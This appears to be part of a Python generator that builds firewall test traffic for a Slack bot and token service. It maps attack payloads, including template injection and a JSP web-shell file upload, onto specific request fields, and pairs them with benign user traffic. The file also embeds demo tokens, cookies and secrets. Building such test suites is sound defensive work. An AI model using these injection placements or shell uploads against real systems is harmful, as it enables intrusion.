    ("ssti", "liquid", RENDERED, "text", LOCATION, LIQUID),
]

# ----------------------------------------------------------------------------------------------------------------
# Real placements
BEARER = ("Bearer eyJhbGciOiJFUzI1NiIsImtpZCI6Ik5mWm5ZTjBrR3hVZkFfS3FKbyIsInR5cCI6ImF0K2p3dCJ9.eyJpc3MiOiJodHRwczovL2"
          "xvY2FsaG9zdDo4NDQzIiwic3ViIjoiZGVtby1jbGllbnQiLCJhdWQiOiJqZWV2ZXMiLCJzY29wZSI6InJlYWQgd3JpdGUifQ.MEUCIQDx7"
          "bVwLr2E3kq0pYbJ5aQ")
BASIC = "Basic " + base64.b64encode(b"demo-client:Qm9uam91ciBsZSBtb25kZSBkZXMgdG9rZW5zIQ").decode()
ADMIN_COOKIE = "__Host-jeeves_admin=Vt3yJ0nQm9c2Lr8fXwP4aZk1sD6hGeU7bN5yTqR0oMi"
ME_COOKIE = "__Host-jeeves_me=Hq7XcW2pLm9sTz4vKd1bRy8nFg3jEu6aQo5iMt0wYVk"
CSRF = "yN3kQ8vT2mW6pL0sR4hC9xB1dF7gJ5zA"
STATE = "S2xhc3NlQ29kZVN0YXRlMTcxOTAwMDAwMA"
HOOK = "https://hooks.slack.com/commands/T0123ABCD/6543210987/Xq2bW8nK4pV0mL7s"
BOUNDARY = "----WebKitFormBoundary9sKq2LmZp4XvT7Ny"
KV_SAFE = "=&[]._-:/'*$!(),;{}~@"   # `name=value` syntax goes as typed


def _q(value: str, latin: bool = False) -> str:
    return urllib.parse.quote(value.encode("latin-1") if latin else value.encode(), safe="")


def _urlencode(fields: list[tuple[str, str]], latin: bool = False) -> str:
    return "&".join(_q(k) + "=" + _q(v, latin) for k, v in fields)


def _api(method: str, uri: str, body: str = "", content_type: str = "", **headers: str) -> dict[str, Any]:
    return request(method, uri, body, content_type,
                   **{"Authorization": BEARER, "Accept": "application/json", "X-Api-Version": "2024-06-01", **headers})


def _admin_form(uri: str, fields: list[tuple[str, str]], latin: bool = False, raw: str = "") -> dict[str, Any]:
    body = _urlencode([("csrf_token", CSRF), *fields], latin) + ("&" + raw if raw else "")
    return request("POST", uri, body, "application/x-www-form-urlencoded", Cookie=ADMIN_COOKIE,
                   Origin="https://localhost:8443", Referer="https://localhost:8443" + uri)


def _me_form(uri: str, fields: list[tuple[str, str]], latin: bool = False, raw: str = "") -> dict[str, Any]:
    body = _urlencode([("csrf_token", CSRF), *fields], latin) + ("&" + raw if raw else "")
    return request("POST", uri, body, "application/x-www-form-urlencoded", Cookie=ME_COOKIE,
                   Origin="https://localhost:8443", Referer="https://localhost:8443/me/")


def _td_form(uri: str, fields: list[tuple[str, str]], latin: bool = False, raw: str = "",
             basic: bool = True) -> dict[str, Any]:
    body = _urlencode(fields, latin) + ("&" + raw if raw else "")
    headers = {"Authorization": BASIC} if basic else {}
    return request("POST", uri, body, "application/x-www-form-urlencoded", Accept="application/json", **headers)


def _slack_event(text: str, n: int) -> dict[str, Any]:
    return {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T0123ABCD", "api_app_id": "A0123JEEV",
            "event": {"type": "message", "channel_type": "im", "user": "U0123ABCD", "text": text,
                      "ts": f"1719000{n:03d}.000200", "channel": "D0123ABCD", "event_ts": f"1719000{n:03d}.000200"},
            "type": "event_callback", "event_id": f"Ev0{n:05d}PT", "event_time": 1719000000 + n,
            "authorizations": [{"team_id": "T0123ABCD", "user_id": "U0JEEVES1", "is_bot": True}]}


def _slack_post(uri: str, body: str, content_type: str, **headers: str) -> dict[str, Any]:
    return request("POST", uri, body, content_type, **{"User-Agent": SLACK_UA, "X-Slack-Request-Timestamp":
                                                        "1719000000", "X-Slack-Signature": "v0=" + "0" * 64,
                                                        **headers})


def _command(fields: dict[str, str], latin: bool = False) -> dict[str, Any]:
    form = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": "T0123ABCD", "team_domain": "acme",
            "channel_id": "D0123ABCD", "channel_name": "directmessage", "user_id": "U0123ABCD", "user_name": "ana",
            "command": "/jeeves", "text": "help", "api_app_id": "A0123JEEV", "is_enterprise_install": "false",
            "response_url": HOOK, "trigger_id": "6543210987.123456789.abcdef0123456789"}
    form.update(fields)
    return _slack_post("/slack/commands", _urlencode(list(form.items()), latin), "application/x-www-form-urlencoded")


def _click(value: str = "Lisbon, Portugal", response_url: str = HOOK) -> str:
    return json.dumps({"type": "block_actions", "user": {"id": "U0123ABCD", "team_id": "T0123ABCD"},
                       "team": {"id": "T0123ABCD", "domain": "acme"}, "channel": {"id": "D0123ABCD"},
                       "response_url": response_url, "trigger_id": "6543210987.123456789.abcdef",
                       "actions": [{"action_id": "set_location", "block_id": "loc", "type": "button",
                                    "value": value, "action_ts": "1719000000.123456"}]}, ensure_ascii=False)


def _interaction(payload: str) -> dict[str, Any]:
    return _slack_post("/slack/interactions", "payload=" + _q(payload), "application/x-www-form-urlencoded")


def _real(field: str, v: str, n: int, lead: str = "", latin: bool = False) -> dict[str, Any]:
    """The request a tester sends to put `v` into `field` of our real routes."""
    xml, js = "application/xml", "application/json"
    if field == "api-query:team_id":
        return _api("GET", f"/api/users?team_id={_q(v, latin)}&active=true&limit=50")
    if field == "api-json:name":
        return _api("PATCH", "/api/users/7", json.dumps({"name": v}, ensure_ascii=False), js)
    if field == "api-json:email":
        return _api("PATCH", "/api/users/7", json.dumps({"email": v, "is_active": True}, ensure_ascii=False), js)
    if field == "api-json:settings.timezone":
        return _api("PATCH", "/api/users/7", json.dumps({"settings": {"timezone": v, "units": "metric"}}), js)
    if field == "api-doc:users":
        return _api("PATCH", "/api/users/7", v, js)
    if field == "api-doc:switches":
        return _api("PUT", "/api/switches/weather", v, js)
    if field == "api-xml:users":
        return _api("PATCH", "/api/users/7", v, xml)
    if field == "api-names:users":
        return _api("GET", "/api/users?limit=50&" + urllib.parse.quote(v, safe=KV_SAFE))
    if field == "hdr:Authorization":
        return _api("GET", "/api/users?limit=50", Authorization="Bearer " + v)
    if field == "hdr:X-Request-Id":
        return _api("GET", "/api/users/7", **{"X-Request-Id": v})
    if field in ("admin-query:users", "admin-query:audit"):
        page = field.split(":")[1]
        return request("GET", f"/admin/{page}?q={_q(v, latin)}&page=1", Cookie=ADMIN_COOKIE, Accept="text/html")
    if field == "admin-query:next":
        return request("GET", "/admin/login?next=" + _q(v), Accept="text/html")
    if field == "admin-form:login.username":
        return _admin_form("/admin/login", [("username", v), ("password", "correct-horse-battery"), ("totp", ""),
                                            ("next", "/admin/")])
    if field == "admin-form:login.next":
        return _admin_form("/admin/login", [("username", "ops"), ("password", "correct-horse-battery"),
                                            ("totp", "492039"), ("next", v)])
    if field == "admin-form:clients.description":
        return _admin_form("/admin/clients", [("client_id", "reporting-job"), ("description", v), ("scopes", "read")],
                           latin)
    if field == "admin-form:features.team_id":
        return _admin_form("/admin/features", [("action", "weather"), ("team_id", v), ("enabled", "0")])
    if field == "admin-form:slack.user_id":
        return _admin_form("/admin/slack-sign-in", [("username", "ops"), ("team_id", "T0123ABCD"), ("user_id", v)])
    if field == "admin-names:features":
        return _admin_form("/admin/features", [("action", "weather"), ("enabled", "1")],
                           raw=urllib.parse.quote(v, safe=KV_SAFE))
    if field == "admin-upload:clients":
        body = SET.multipart([("csrf_token", CSRF, None), ("client_id", "reporting-job", None),
                              ("scopes", "read", None), ("description", "nightly export", None),
                              ("file", JSP_SHELL, v)])
        return request("POST", "/admin/clients", body, SET.multipart_type,
                       Cookie=ADMIN_COOKIE, Origin="https://localhost:8443")
    if field == "me-form:place":
        return _me_form("/me/location", [("place", v)])
    if field == "me-form:timezone":
        return _me_form("/me/settings", [("units", "metric"), ("alert_time", "07:30"), ("timezone", v),
                                         ("alerts", "on")], latin)
    if field == "me-names:settings":
        return _me_form("/me/settings", [("units", "metric"), ("alert_time", "07:30")],
                        raw=urllib.parse.quote(v, safe=KV_SAFE))
    if field == "me-upload:settings":
        body = SET.multipart([("csrf_token", CSRF, None), ("units", "metric", None), ("alert_time", "07:30", None),
                              ("timezone", "Europe/Lisbon", None), ("avatar", JSP_SHELL, v)])
        return request("POST", "/me/settings", body, SET.multipart_type, Cookie=ME_COOKIE,
                       Origin="https://localhost:8443")
    if field == "auth-query:for":
        return request("GET", "/auth/slack/login?for=" + _q(v), Accept="text/html")
    if field == "auth-query:redirect_uri":
        return request("GET", "/auth/slack/login?redirect_uri=" + _q(v), Accept="text/html")
    if field == "auth-query:code":
        return request("GET", f"/auth/slack/callback?code={_q(v, latin)}&state={STATE}", Accept="text/html",
                       Cookie="__Host-jeeves_oidc_state=" + STATE)
    if field == "slack-event:text":
        return _slack_post("/slack/events", json.dumps(_slack_event(lead + v, n), ensure_ascii=False), js)
    if field == "slack-event:doc":
        return _slack_post("/slack/events", v, js)
    if field == "slack-xml:events":
        return _slack_post("/slack/events", v, "text/xml")
    if field == "slack-cmd:text":
        return _command({"text": lead + v})
    if field == "slack-cmd:response_url":
        return _command({"text": "weather Lisbon", "response_url": v})
    if field == "slack-act:value":
        return _interaction(_click(value=v))
    if field == "slack-act:response_url":
        return _interaction(_click(response_url=v))
    if field == "slack-act:doc":
        return _interaction(v)
    if field == "td-form:scope":
        return _td_form("/oauth/token", [("grant_type", "client_credentials"), ("scope", v)])
    if field == "td-form:audience":
        return _td_form("/oauth/token", [("grant_type", "client_credentials"), ("scope", "read"), ("audience", v)])
    if field == "td-form:client_id":
        return _td_form("/oauth/token", [("grant_type", "client_credentials"), ("client_id", v),
                                         ("client_secret", "Qm9uam91ciBsZSBtb25kZSBkZXMgdG9rZW5zIQ")], basic=False)
    if field == "td-form:access_token":
        return _td_form("/verify_token", [("access_token", v), ("audience", "jeeves")], latin, basic=False)
    if field == "td-form:token":
        return _td_form("/oauth/introspect", [("token", v), ("token_type_hint", "access_token")])
    if field == "td-names:token":
        return _td_form("/oauth/token", [("grant_type", "client_credentials"), ("scope", "read")],
                        raw=urllib.parse.quote(v, safe=KV_SAFE))
    if field == "td-xml:token":
        return request("POST", "/oauth/token", v, xml, Authorization=BASIC, Accept="application/json")
    if field == "hdr:User-Agent":
        return request("GET", "/admin/login", Accept="text/html", **{"User-Agent": v})
    if field == "hdr:Referer":
        return request("GET", "/me/", Accept="text/html", Cookie=ME_COOKIE, Referer=v)
    if field == "hdr:Origin":
        req = _admin_form("/admin/login", [("username", "ops"), ("password", "correct-horse-battery")])
        return {**req, "headers": {**req["headers"], "Origin": v}}
    if field == "hdr:X-Slack-Retry-Reason":
        return _slack_post("/slack/events", json.dumps(_slack_event("weather Lisbon", n)), js,
                           **{"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": v})
    if field == "cookie:admin":
        return request("GET", "/admin/", Accept="text/html", Cookie="__Host-jeeves_admin=" + v)
    if field == "cookie:me":
        return request("GET", "/me/data.json", Cookie="__Host-jeeves_me=" + v)
    if field == "cookie:oidc_state":
        return request("GET", f"/auth/slack/callback?code=Zm9vYmFy&state={STATE}", Accept="text/html",
                       Cookie="__Host-jeeves_oidc_state=" + v)
    raise ValueError(field)


# ----------------------------------------------------------------------------------------------------------------
# "rs-" placements: the way a WAF regression suite sends a payload
RS_BY_KIND = {"latin": ["rs-query", "rs-form", "rs-raw-body"], "kv": ["rs-raw-body", "rs-param-name"],
              "filename": ["rs-multipart-filename"]}


class _Set(BlindSet):
    prefix = NAME
    boundary = BOUNDARY
    kv_safe = KV_SAFE
    upload = JSP_SHELL
    documents = True

    def _p_rs_param_name(self, p: Put) -> Record:   # the payload is the query string, as typed
        return request("GET", p.path + "?" + self._raw(p))


SET = _Set()


def _fits(place: str, v: str) -> bool:
    """Header and cookie placements need one printable ASCII line."""
    if place.startswith(("hdr:", "cookie:", "rs-header:")) or place == "rs-cookie":
        return header_safe(v)
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, fields, kind, lead, entries) in enumerate(FAMILIES):
        body_fields = [f for f in fields if not f.startswith(("hdr:", "cookie:"))]
        latin = kind == "latin"
        for i, payload in enumerate(entries):
            if kind == "doc" and payload.startswith("<"):
                real_place, rs_place = XML_DOCS[i % len(XML_DOCS)], "rs-xml"
            elif kind == "doc":
                real_place, rs_place = fields[i % len(fields)], "rs-json-body"
            else:
                real_place = fields[i % len(fields)]
                rs_cycle = RS_BY_KIND.get(kind, SET.rs_cycle)
                rs_place = rs_cycle[(i + 2 * s) % len(rs_cycle)]
            if not _fits(real_place, payload):
                real_place = body_fields[i % len(body_fields)]
            if not _fits(rs_place, payload):
                rs_place = ["rs-json", "rs-form", "rs-query"][i % 3]
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
            for place, rec in ((real_place, _real(real_place, payload, n + 1, lead, latin)),
                               (rs_place, SET.rs(rs_place, rs_path, rs_name, payload, latin))):
                n += 1
                yield SET.record(rec, n, category, sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: the product's users, admins and engineers typing the same names, keywords and syntax innocently
CHAT = [
    "weather Lisbon tomorrow",
    "remember location São Paulo",
    "remember location Ben & Jerry's, Burlington",
    "config",
    "alerts on at 06:45 please",
    "is the daily weather alert sent in my timezone or in UTC?",
    "the /jeeves command says dispatch_failed when I type weather in a thread",
    "TokenDealer gave me invalid_scope when I asked for clients:admin with the demo-client",
    "rotate-secret on jeeves-worker done, the vault entry is updated",
    "the WAF returned request_blocked on my PATCH to /api/users/42, request id is in the thread",
    "can someone map my Slack user for the admin panel? map-slack --username ana --team T0123ABCD --user U04ANA",
    "JWKS is cached for 300 s, so the new kid shows up after five minutes, no need to panic",
    "pentest readout: response_url only accepts hooks.slack.com, so the SSRF finding was closed",
    "pentest readout: prototype pollution doesn't apply, both services are Python (Quart), not Node",
    "the log4shell scan from security found nothing on the edge, we don't run Java anywhere in this stack",
    "Jinja2 autoescaping is on in the admin templates, I checked users.html and audit.html",
    "why does /readyz say jeeves (postgres)? the database restarted at 03:10",
    "the Java team asked whether our tokens work with Spring Security's resource server: yes, ES256 via the JWKS URL",
    "the Ruby on Rails app will call /api/users with a client credentials token next sprint",
    "the old Perl cron that exported users is retired, please use the data API instead",
    "the Node 20 dashboard uses jose to verify the at+jwt tokens from TokenDealer",
    "on EC2 we moved to IMDSv2 for the metadata service last quarter",
    "the fake Slack on 5002 logs every reply in fake-slack.jsonl, handy for debugging",
    "the fake weather API always says 21 degrees, that's why every city looks the same in demo mode",
    "remember location Saint-Jean-de-Luz",
    "weather in Zürich?",
    "weather 東京",
    "remember location Kraków",
    "set units imperial",
    "alerts off",
    "who owns /admin/features? I need weather switched off for team T0456EFGH",
    "my TOTP code was rejected twice, is the clock on my phone off?",
    "I got locked out of the admin login after five tries, waiting out the 30 seconds",
    "the audit log shows user.forget_me for U07XYZ yesterday, that was a real request",
    "the X-Request-Id in the error body matches the gateway log line, found it",
    "curl -u demo-client:... -d grant_type=client_credentials -d scope=read works from my laptop",
    "the release email shows {{ user.name }} literally, but the mailer is the marketing tool, not ours",
    "Slack replies use mrkdwn, so *bold* and _italics_ work but HTML doesn't",
    "the Velocity templates in the old Confluence space are gone, docs moved into the repo",
    "FreeMarker was the old Java mailer, Jeeves never used it",
    "ERB in the Chef cookbook sets PUBLIC_BASE_URL for the staging box",
    "Handlebars is only on the marketing site, not in the product",
    "thanks Jeeves, the 7:30 alert was spot on",
    "could the bot tell me tomorrow's chance of rain in Porto?",
    "is there a rate limit on /oauth/token? the CI job got a 429",
    "python -m app.demo_event \"weather Paris\" shows the reply in the fake Slack log",
    "release notes 2.4: slash commands answer within 2 s or follow up through response_url",
    "release notes 2.5: /me/ shows your recent actions and lets you download data.json",
    "bug: remember location with an emoji 🌧️ saves fine but App Home shows a box",
    "bug: with timezone America/Argentina/Buenos_Aires the alert time label wraps",
    "does forget me also delete the audit entries? (no, they stay, only your data goes)",
    "process note: production deploys need two approvals in the runner",
    "the OAuth 2.0 class next week covers client credentials and token introspection",
    "the runtime of the full test suite is down to 9 minutes",
    "the constructor of the Settings class reads the environment once at startup",
    "the eval set for the place parser is in the drive",
    "system update tonight at 22:00 UTC, expect a short 503 with Retry-After",
    "our Java 21 consumer reads /.well-known/jwks.json and caches the keys by kid",
    "security review: the admin panel uses __Host- cookies, SameSite=Lax and a CSRF token on every form",
    "the 169.254.x.x addresses in the ECS task logs are the metadata agent, ignore them",
    "localhost:8443 works with the dev CA, add .run/certs/ca.pem to your trust store",
    "remember location 10 Downing Street, London",
    "weather Reykjavík this weekend",
    "can the worker retry a failed alert, or do I wait for tomorrow?",
    "Open question from the pentest: should /auth/slack/login?for=admin be rate-limited too?",
]
SEARCHES = [
    "ana", "U04ANA", "T0123ABCD", "@example.org", "maría", "o'brien", "forget_me", "client.rotate", "login.slack",
    "feature.set", "jeeves-worker", "demo-client", "user.admin", "Zürich", "tokendealer", "denied", "2024-06",
    "gmail.com", "ops", "Lee", "user.active", "client.create", "reporting-job", "U0DEMOADA", "jean-luc",
    "müller", "smith & sons", "weather", "T0456EFGH", "failed", "ana@example.org", "login", "Ngô", "outcome=denied",
    "ops-bot",
]
URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://api.slack.com/authentication/verifying-requests-from-slack",
    "https://api.slack.com/interactivity/handling#message_responses",
    "https://datatracker.ietf.org/doc/html/rfc9068",
    "https://www.rfc-editor.org/rfc/rfc7662",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://jinja.palletsprojects.com/en/3.1.x/sandbox/",
    "https://quart.palletsprojects.com/en/latest/",
    "https://open-meteo.com/en/docs/geocoding-api",
    "https://nodejs.org/api/child_process.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html",
    "https://app.slack.com/client/T0123ABCD/C0123ABCD",
    "https://openresty.org/en/lua-nginx-module.html",
    "https://coreruleset.org/docs/",
    "https://github.com/advisories?query=ejs",
]
PROSE = [
    "Release 2.6: the data API's PATCH /api/users/<id> now validates settings (units, alert_time, alerts, timezone).",
    "Bug report: after rotating the jeeves-admin secret the Clients page showed a 502 until the panel was restarted.",
    "Pentest scope: edge on 8443, the admin panel, /me/, the Slack routes and TokenDealer's public endpoints.",
    "Finding closed: the OIDC state cookie is single use and bound to the browser, replay returns a 400 page.",
    "Finding closed: response_url must be a Slack hook; other hosts are refused with invalid_response_url.",
    "Note: a Java client library (Nimbus JOSE) verified our ES256 tokens against the JWKS without changes.",
    "Support: user says the weather for Saint-Étienne came back for Saint Etienne, Missouri; parser picks the first.",
    "Support: remember location Ben & Jerry's stored the ampersand correctly after the Slack unescaping fix.",
    "Runbook: when PostgreSQL is down the API answers 503 with Retry-After; do not restart Jeeves, wait for it.",
    "Runbook: tokendealer.cli keys activate refuses until the new key was published for the JWKS cache lifetime.",
    "Onboarding: the admin panel's templates are Jinja2, the Slack replies are built with Block Kit, no HTML.",
    "Retro: the template change in audit.html broke the pagination links, fixed by using url_for with page.",
    "Audit question: who disabled the demo-client on the 14th? The audit log says client.disable by ops.",
    "Architecture: nginx with Lua at the edge, two Quart services behind it, PostgreSQL and Redis on loopback.",
    "Docs: the revocation feed is only on TokenDealer's service port, never at the edge.",
    "Change log: TOTP codes are single use now (totp_last_step), replaying a code within 30 s fails.",
    "Meeting notes: move the Ruby reporting job to the data API; the Perl export script is retired.",
    "Meeting notes: the Node dashboard team wants a read scope token with audience jeeves, ticket filed.",
    "Incident 0612: the worker sent no alerts for 20 minutes while Slack rate-limited conversations.history.",
    "Incident 0613: a misconfigured proxy forwarded X-Forwarded-For from the internet; JEEVES_TRUSTED_PROXIES fixed.",
    "Vendor note: our Spring Boot client uses WebClient with the client_credentials grant and caches the token.",
    "Request: add a search on the audit log by outcome (denied, failed) and by actor.",
    "Request: export /me/data.json as CSV too, finance wants the recent actions in a spreadsheet.",
    "Training: server-side template injection basics, with examples from Jinja2 and Twig, Thursday 14:00.",
    "Policy: never paste a client secret into Slack; rotate-secret it if you did.",
]
COMMAND_TEXTS = [
    "help", "weather Paris", "weather São Paulo tomorrow", "remember location Ben & Jerry's", "login", "forget me",
    "config", "alerts on", "alerts at 06:30", "units imperial", "weather 10001", "remember location St. John's, NL",
    "weather Reykjavík", "weather \"New York\"", "remember location Rue de l'Église, Québec",
    "weather in Sydney tomorrow?", "remember location <https://maps.example.com/porto|Porto>",
    "weather Kyiv",
]
PLACES = [
    "Lisbon", "São Paulo", "Ben & Jerry's, Burlington", "Kraków", "Zürich", "Saint-Jean-de-Luz", "Reykjavík",
    "Québec City", "O'Fallon, Missouri", "10 Downing Street, London", "東京", "Springfield (Illinois)",
    "Rio de Janeiro", "Las Palmas de Gran Canaria", "Washington, D.C.",
]
TIMEZONES = [
    "Europe/Lisbon", "America/Sao_Paulo", "America/Argentina/Buenos_Aires", "Asia/Tokyo", "Etc/UTC",
    "America/New_York", "Australia/Sydney", "Europe/Zurich", "Asia/Kolkata", "Pacific/Auckland",
]
CLIENTS = [
    ("reporting-job", "Nightly export of users for the BI warehouse (read only)"),
    ("spring-dashboard", "Spring Boot dashboard, WebClient with client_credentials"),
    ("rails-billing", "Ruby on Rails billing app, reads /api/users"),
    ("node-status", "Node 20 status page; verifies tokens with jose"),
    ("perl-legacy-export", "Replaces the old Perl cron; to be deleted in Q3"),
    ("pentest-2024", "Client for the external penetration test, disable after 30 June"),
    ("java-alerts", "Java 21 consumer of weather alerts; audience jeeves"),
    ("ci-smoke", "CI smoke test: token, /api/users?limit=1, revoke"),
    ("grafana", "Grafana JSON datasource for usage stats (since/until)"),
    ("support-bot", "Support team's bot: looks up a user by Slack id"),
    ("metrics.exporter", "Exports /api/usage/stats to Prometheus"),
    ("template-preview", "Renders the Block Kit templates for the design review"),
]
TOKEN_FORMS = [
    [("grant_type", "client_credentials"), ("scope", "read")],
    [("grant_type", "client_credentials"), ("scope", "read write")],
    [("grant_type", "client_credentials"), ("scope", "read"), ("audience", "jeeves")],
    [("grant_type", "client_credentials"), ("scope", "clients:admin"), ("audience", "tokendealer")],
    [("grant_type", "client_credentials")],
    [("grant_type", "client_credentials"), ("client_id", "reporting-job"),
     ("client_secret", "kQ3v-9xT_2mW6pL0sR4hC9xB1dF7gJ5zA8yN3eU1oIw")],
    [("grant_type", "client_credentials"), ("scope", "write")],
    [("grant_type", "client_credentials"), ("scope", "read"), ("audience", "jeeves")],
    [("grant_type", "client_credentials"), ("scope", "write read")],
    [("grant_type", "client_credentials"), ("scope", "read"), ("client_id", "ci-smoke"),
     ("client_secret", "Zx8-Lm2_pQ7rT4vW9yB3cD6fG1hJ5kN0sA2eU8iO3uY")],
]
PROFILES = [
    "Ana María Souza", "Jean-Luc O'Brien", "Ngô Bảo Châu", "Zoë Müller", "Łukasz Żółw", "Dr. Jane Doe, PhD",
    "Ops Bot (do not DM)", "Sam \"Sammy\" Lee", "José & María", "李小龙", "Priya R.", "Björk Guðmundsdóttir",
    "Java Team Lead", "Ruby Nguyen", "Perl Jam",
]
FILE_NAMES = [
    ("log4j-scan-report.pdf", "Log4j scan report (all clear)"),
    ("pentest-findings-2024-06.xlsx", "Pentest findings"),
    ("jinja2-template-notes.md", "Notes on the admin templates"),
    ("screenshot 2024-06-21 at 10.22.31.png", "Screenshot 2024-06-21 at 10.22.31"),
    ("spring-boot-client.zip", "Spring Boot client example"),
    ("metadata-service-diagram.drawio.png", "Metadata service diagram"),
    ("ruby-style-guide.pdf", "Ruby style guide"),
    ("handlebars-migration-plan.docx", "Handlebars migration plan"),
    ("prototype-pollution-talk.pptx", "Prototype pollution talk slides"),
    ("jeeves-my-data.json", "jeeves-my-data"),
    ("weather-alerts-q2.csv", "Weather alerts Q2"),
    ("ssrf-retest-notes.txt", "SSRF retest notes"),
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Java-http-client/21.0.3"),
    ("User-Agent", "ReactorNetty/1.1.20"),
    ("User-Agent", "node"),
    ("User-Agent", "Ruby"),
    ("User-Agent", "libwww-perl/6.77"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "Grafana/11.0.0"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("Referer", "https://localhost:8443/admin/users?q=ana&page=2"),
    ("Referer", "https://localhost:8443/me/"),
    ("Referer", "https://app.slack.com/"),
    ("Referer", "https://www.google.com/search?q=jinja2+template+injection+quart"),
    ("X-Request-Id", "ci-smoke-20240621-0007"),
    ("X-Request-Id", "3f2b8c1e-9d4a-4e7b-8a6f-1c2d3e4f5a6b"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en-GB;q=0.8,en;q=0.7"),
    ("Cookie", "__Host-jeeves_me=Hq7XcW2pLm9sTz4vKd1bRy8nFg3jEu6aQo5iMt0wYVk; theme=dark"),
    ("Origin", "https://localhost:8443"),
    ("X-Api-Version", "2024-06-01"),
]


def _file_share(name: str, title: str, n: int) -> dict[str, Any]:
    event = _slack_event("here's the file", n)
    event["event"] |= {"subtype": "file_share", "files": [{"id": f"F0{n:07d}", "name": name, "title": title,
                                                             "mimetype": "application/octet-stream",
                                                             "filetype": name.rsplit(".", 1)[-1]}]}
    return _slack_post("/slack/events", json.dumps(event, ensure_ascii=False), "application/json")


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(CHAT, prefix)
    n = yield from numbered((request("GET", _query("/admin/" + ("users" if i % 3 else "audit"),
                                                    [("q", q), ("page", "1")]), Cookie=ADMIN_COOKIE,
                                     Accept="text/html") for i, q in enumerate(SEARCHES)),
                            f"{prefix}-search", n, "query")
    n = yield from links_and_prose(URLS, PROSE, prefix, n)
    # Slack escapes what the user typed but sends its own link markup as is
    n = yield from numbered((_command({"text": t if t.count("<https://") else slack_escape(t)}) for t in COMMAND_TEXTS),
                            f"{prefix}-command", n, "form")
    n = yield from numbered((_me_form("/me/location", [("place", p)]) for p in PLACES), f"{prefix}-place", n, "form")
    n = yield from numbered((_me_form("/me/settings", [("units", "metric"), ("alert_time", "07:30"), ("timezone", tz),
                                                       ("alerts", "on")]) for tz in TIMEZONES),
                            f"{prefix}-settings", n, "form")
    n = yield from numbered((_admin_form("/admin/clients", [("client_id", cid), ("description", d), ("scopes", "read")])
                             for cid, d in CLIENTS), f"{prefix}-client", n, "form")
    n = yield from numbered((_td_form("/oauth/token", f, basic="client_id" not in dict(f)) for f in TOKEN_FORMS),
                            f"{prefix}-token", n, "form")
    n = yield from numbered((_api("PATCH", f"/api/users/{7 + i}", json.dumps({"name": who}, ensure_ascii=False),
                                  "application/json") for i, who in enumerate(PROFILES)),
                            f"{prefix}-profile", n, "json")
    n = yield from numbered((_file_share(fn, title, i + 1) for i, (fn, title) in enumerate(FILE_NAMES)),
                            f"{prefix}-file", n, "json")
    yield from numbered((request("GET", "/api/users?limit=50", Authorization=BEARER, **{k: v})
                         for k, v in BENIGN_HEADERS), f"{prefix}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
